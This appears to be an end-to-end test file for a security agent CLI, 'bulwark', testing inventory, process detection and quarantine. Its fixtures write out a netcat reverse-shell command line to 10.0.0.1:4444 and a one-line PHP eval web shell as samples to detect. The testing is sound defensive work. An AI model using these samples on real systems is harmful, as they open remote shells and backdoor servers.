import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { inventorySchema } from '../../src/agent/collectors/inventory.js';
import { assertBuilt, runCli, tempDir } from './support.js';

beforeAll(assertBuilt);

describe('bulwark agent inventory / processes / quarantine (built CLI)', () => {
  it('prints a valid inventory of this machine as one JSON document', () => {
    const r = runCli(['agent', 'inventory', '--format', 'json']);
    expect(r.status, r.stderr).toBe(0);
    const inv = inventorySchema.parse(JSON.parse(r.stdout));
    expect(inv.errors).toEqual([]);
    expect(inv.os).not.toBeNull();
    expect(inv.processes.length).toBeGreaterThan(1);
  });

  it('finds a netcat reverse shell in a fixture /proc and exits 1', () => {
    const root = tempDir('bw-e2e-proc-');
    mkdirSync(join(root, 'proc/10'), { recursive: true });
    writeFileSync(join(root, 'proc/10/stat'), '10 (nc) S 1 10 10 0 -1 0 0 0 0 0 0 0 0 0 20 0 1 0 100 0 0 0');
    writeFileSync(join(root, 'proc/10/cmdline'), 'nc\0-e\0/bin/sh\x0010.0.0.1\x004444\0');
    const r = runCli(['agent', 'processes', '--root', root, '--format', 'json']);
    expect(r.status, r.stderr).toBe(1);
    const doc = JSON.parse(r.stdout) as { events: Array<{ rule: { id: string }; threat: { technique: { id: string } } }> };
    expect(doc.events.map((e) => [e.rule.id, e.threat.technique.id])).toEqual([['bulwark.process.netcat-exec', 'T1095']]);
  });

  it('quarantines and restores a file, and keeps the action log', () => {
    const dir = tempDir('bw-e2e-q-');
    const state = join(dir, 'state');
    const file = join(dir, 'shell.php');
    writeFileSync(file, '<?php eval($_POST["x"]);');
    const q = runCli(['agent', 'quarantine', file, '--state-dir', state, '--format', 'json']);
    expect(q.status, q.stderr).toBe(0);
    const id = (JSON.parse(q.stdout) as { details: { quarantineId: string } }).details.quarantineId;
    expect(existsSync(file)).toBe(false);
    const r = runCli(['agent', 'restore', id, '--state-dir', state]);
    expect(r.status, r.stderr).toBe(0);
    expect(readFileSync(file, 'utf8')).toContain('eval(');
    const log = JSON.parse(runCli(['agent', 'actions', '--state-dir', state, '--format', 'json']).stdout) as { actions: Array<{ action: string }> };
    expect(log.actions.map((a) => a.action)).toEqual(['quarantine', 'restore']);
  });
});
